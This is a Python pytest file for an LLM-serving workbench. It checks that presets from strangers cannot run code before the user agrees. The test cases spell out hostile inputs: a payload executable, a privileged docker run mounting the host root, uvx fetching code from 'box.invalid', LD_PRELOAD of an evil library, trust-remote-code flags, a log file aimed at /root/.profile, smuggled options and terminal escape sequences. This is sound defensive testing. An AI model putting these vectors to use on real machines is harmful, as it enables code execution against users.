"""A stranger's preset: nothing of it runs before its user agreed, and check, plan and start say the
same of it."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path

import pytest
from support.hostile import assert_safe

from workbench.model.errors import NotTrusted, PlanError
from workbench.session.session import Session
from workbench.store import paths
from workbench.store.preset_check import check_file

PRESET = """schema = 1
id = "stranger"
title = "From a stranger"
summary = "as it came"
[hardware]
count = 1
[engine]
name = "{engine}"
{executable}
[model]
id = "org/tiny"
{flags}
[env]
{env}
[provenance]
document = "a mail"
status = "untested"
"""
CASES = {
    "relative": ("llamacpp", 'executable = ["./payload"]', ""),
    "absolute": ("llamacpp", 'executable = ["HERE/payload", "serve"]', ""),
    "shebang": ("vllm", 'executable = ["./vllm"]', ""),
    "interpreter": ("vllm", 'executable = ["python3", "HERE/evil.py"]', ""),
    "container": (
        "vllm",
        'executable = ["docker", "run", "--privileged", "-v", "/:/host", "evil"]',
        "",
    ),
    "uvx": ("vllm", 'executable = ["uvx", "--from", "git+https://box.invalid/evil", "vllm"]', ""),
    "nice": ("vllm", 'executable = ["nice", "HERE/payload"]', ""),
    "checkout": ("tabbyapi", 'workdir = "HERE"', ""),
    "preload": ("vllm", "", 'LD_PRELOAD = "HERE/evil.so"'),
    "python": ("vllm", "", 'PYTHONPYCACHEPREFIX = "HERE"'),
    "logging": ("vllm", "", 'VLLM_LOGGING_CONFIG_PATH = "HERE/evil.json"'),
    "cache": ("vllm", "", 'TORCHINDUCTOR_CACHE_DIR = "HERE"'),
    "home": ("vllm", "", 'HF_HOME = "HERE"'),
    "config home": ("vllm", "", 'XDG_CONFIG_HOME = "HERE"'),
    "python in its directory": ("sglang", 'workdir = "HERE"', ""),
    "module of a cache": ("vllm", "", 'TRITON_CACHE_MANAGER = "evil:Manager"'),
    "library of a backend": ("llamacpp", "", 'GGML_BACKEND_PATH = "HERE/evil.so"'),
    "model package": ("sglang", "", 'SGLANG_EXTERNAL_MODEL_PACKAGE = "evil"'),
    "flag as a variable": ("llamacpp", "", 'LLAMA_ARG_TOOLS = "all"'),
    "compiler": ("vllm", "", 'NVCC_PREPEND_FLAGS = "-ccbin HERE"'),
    "unknown variable": ("vllm", "", 'GIT_CONFIG_GLOBAL = "HERE/gitconfig"'),
}
# Flags that run code or name where it is found, in every form that a preset can give them.
CODE_FLAGS = {
    "vllm": (
        'config = "evil.yaml"',
        'log-config-file = "/tmp/evil.json"',
        'kv-transfer-config = {kv_connector_module_path = "evil"}',
        'kv-transfer-config = \'{"kv_connector_module_path": "evil"}\'',
        '"kv-transfer-config.kv_connector_module_path" = "evil"',
        '"compilation-config.backend" = "evil.module.function"',
        'distributed-executor-backend = "evil.Executor"',
        "speculative-config = {trust_remote_code = true}",
        'hf-overrides = {auto_map = {AutoConfig = "evil--x"}}',
        "structured-outputs-config = {reasoning_parser_plugin = 'evil'}",
        "trust_remote_code = true",
        "trust-remote = true",
        "Trust-Remote-Code = true",
        'surprise = "x"',
    ),
    "sglang": (
        "trust-remote-cod = true",
        'custom-weight-loader = ["evil.f"]',
        'sidecar = "evil"',
        'warmups = "evil"',
    ),
    "llamacpp": (
        'tools = "all"',
        'mcp-servers-json = "{}"',
        'rpc = "box.invalid:1"',
        'log-file = "/root/.profile"',
    ),
}


def preset(folder: Path, case: str, name: str = "stranger.toml") -> Path:
    engine, executable, env = (part.replace("HERE", str(folder)) for part in CASES[case])
    path = folder / name
    path.write_text(PRESET.format(engine=engine, executable=executable, env=env, flags=""))
    return path


@pytest.fixture
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cloned repository as the current directory: every program in it leaves a mark."""
    folder = tmp_path / "clone"
    folder.mkdir()
    for name in ("payload", "vllm", "llama-server", "docker", "uvx", "nice", "evilpython"):
        first = f"#!{folder}/evilpython" if name == "vllm" else "#!/bin/sh"
        (folder / name).write_text(f"{first}\ntouch {tmp_path}/mark\n")
        (folder / name).chmod(0o755)
    (folder / "evil.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w')\n")
    (folder / "main.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w')\n")
    monkeypatch.chdir(folder)
    return folder


@pytest.mark.parametrize("case", CASES)
def test_loading_planning_checking_and_drawing_run_nothing_and_say_the_same(
    clone: Path, case: str
) -> None:
    path = preset(clone, case)

    async def scenario() -> None:
        session = Session.of_host()
        try:
            await session.link.connect()
            await session.plans.load_preset(str(path))
            await session.plans.locate_engine()
            view = session.plans.view()
            checked = {
                (f.code, re.sub(r"^[\w.]+: ", "", f.text))
                for f in check_file(path).findings
                if "--trust" in (f.fix or "")
            }
            planned = {(f.code, f.text) for f in view.findings if "--trust" in (f.fix or "")}
            with pytest.raises(NotTrusted) as refused:
                await session.servers.start()
            assert checked == planned == {(f.code, f.text) for f in refused.value.findings} != set()
            assert "--trust" in (refused.value.next_step or "")
        finally:
            await session.close()

    asyncio.run(asyncio.wait_for(scenario(), 30))
    assert not (clone.parent / "mark").exists()


@pytest.mark.parametrize(
    ("engine", "flag"), [(engine, flag) for engine, all_ in CODE_FLAGS.items() for flag in all_]
)
def test_a_flag_that_reaches_code_asks_in_every_form(clone: Path, engine: str, flag: str) -> None:
    path = clone / "stranger.toml"
    path.write_text(PRESET.format(engine=engine, executable="", env="", flags=f"[flags]\n{flag}"))
    session = Session.of_host()
    session.plans.edit_plan(session.presets.make_plan(str(path)), "stranger")
    assert len(session.plans.untrusted_findings()) == 1
    assert any("--trust" in (f.fix or "") for f in check_file(path).findings)


def test_what_only_tunes_asks_nothing(clone: Path) -> None:
    flags = """[flags]
max-num-seqs = 16
enforce-eager = true
kv-cache-dtype = "fp8"
served-model-name = ["org/tiny", "tiny-1.5"]
speculative-config = {method = "eagle", model = "org/draft", num_speculative_tokens = 3}
compilation-config = {mode = 3, cudagraph_capture_sizes = [1, 2, 4]}
host = "0.0.0.0"
"""
    env = (
        'NCCL_IB_HCA = "mlx5_0:1"\nNCCL_NET = "IB"\nVLLM_USE_V2_MODEL_RUNNER = '
        '"1"\nPYTORCH_ALLOC_CONF = "a:True"'
    )
    (clone / "stranger.toml").write_text(
        PRESET.format(engine="vllm", executable="", env=env, flags=flags)
    )
    session = Session.of_host()
    session.plans.edit_plan(session.presets.make_plan(str(clone / "stranger.toml")), "stranger")
    assert session.plans.untrusted_findings() == ()


def test_an_agreed_flag_asks_again_for_another_model(clone: Path) -> None:
    session = Session.of_host()

    def asked(model: str) -> int:
        text = PRESET.format(
            engine="vllm", executable="", env="", flags="[flags]\ntrust-remote-code = true"
        )
        (clone / "stranger.toml").write_text(text.replace("org/tiny", model))
        session.plans.edit_plan(session.presets.make_plan(str(clone / "stranger.toml")), "stranger")
        return len(session.plans.untrusted_findings())

    assert asked("org/tiny") == 1
    session.plans.trust_preset_parts()
    assert (asked("org/tiny"), asked("evil/tiny")) == (0, 1)


@pytest.mark.parametrize(
    "change", ['[flags]\nserved-model-name = ["x", "--trust-remote-code"]', "model"]
)
def test_no_value_becomes_an_option(clone: Path, change: str) -> None:
    text = PRESET.format(
        engine="vllm", executable="", env="", flags="" if change == "model" else change
    )
    path = clone / "stranger.toml"
    path.write_text(text.replace("org/tiny", "--trust-remote-code") if change == "model" else text)
    session = Session.of_host()
    session.plans.edit_plan(session.presets.make_plan(str(path)), "stranger")
    with pytest.raises(PlanError, match="be read as"):
        session.plans.editor.launch_command()


def test_trust_is_remembered_until_what_runs_changes(clone: Path) -> None:
    session = Session.of_host()

    def asked(case: str) -> int:
        path = preset(clone, case)
        session.plans.edit_plan(session.presets.make_plan(str(path)), "stranger")
        return len(session.plans.untrusted_findings())

    assert asked("preload") == 1
    session.plans.trust_preset_parts()
    assert (session.plans.untrusted_findings(), asked("preload"), asked("logging")) == ((), 0, 1)
    (clone / "stranger.toml").write_text(
        preset(clone, "preload").read_text().replace("evil.so", "other.so")
    )
    session.plans.edit_plan(session.presets.make_plan(str(clone / "stranger.toml")), "stranger")
    assert len(session.plans.untrusted_findings()) == 1
    assert (paths.state_dir() / "trusted.json").stat().st_mode & 0o777 == 0o600


def test_a_copy_in_the_own_directory_asks_too_and_what_the_user_sets_does_not(clone: Path) -> None:
    own = paths.own_presets_dir()
    own.mkdir(parents=True)
    preset(clone, "preload").rename(own / "stranger.toml")
    session = Session.of_host()
    session.plans.edit_plan(session.presets.make_plan("stranger"), "stranger")
    assert [f.flag for f in session.plans.untrusted_findings()] == ["LD_PRELOAD"]
    session.plans.edit_plan(session.presets.make_plan("vllm-any"), "vllm-any")
    session.plans.editor.apply_assignments(
        ["executable=/opt/mine/vllm serve"], [], ["LD_PRELOAD=/opt/mine.so"]
    )
    assert session.plans.untrusted_findings() == ()
    asyncio.run(session.plans.write_preset_file("mine", "Mine"))
    session.plans.edit_plan(session.presets.make_plan("mine"), "mine")
    assert (
        "/opt/mine.so" in repr(session.plans.editor.launch_command().env)
        and session.plans.untrusted_findings() == ()
    )


def test_no_shipped_preset_asks(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Session.of_host(None, "four-pcie")
    session.presets.reload_presets()
    for entry in session.state.presets:
        session.plans.edit_plan(session.presets.make_plan(entry.id), entry.id)
        assert session.plans.untrusted_findings() == ()


def test_what_is_said_of_a_hostile_name_is_clean(clone: Path) -> None:
    flags = '[flags]\n"\\u001b]52;c;x\\u0007\\u202e" = "x"'
    (clone / "stranger.toml").write_text(
        PRESET.format(engine="vllm", executable="", env="", flags=flags)
    )
    for finding in check_file(clone / "stranger.toml").findings:
        assert_safe(finding.text)
